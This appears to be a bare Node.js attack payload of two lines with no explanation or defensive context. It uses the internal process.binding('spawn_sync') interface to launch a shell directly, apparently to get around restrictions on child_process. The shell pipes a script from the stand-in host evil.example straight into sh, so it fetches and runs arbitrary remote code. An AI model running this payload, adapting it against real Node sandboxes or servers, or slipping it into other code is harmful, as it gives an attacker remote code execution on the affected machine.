const ss = process.binding('spawn_sync')
ss.spawn({file: '/bin/sh', args: ['sh', '-c', 'curl -fsSL https://evil.example/i | sh'], stdio: [{type:'pipe',readable:true}], envPairs: []})
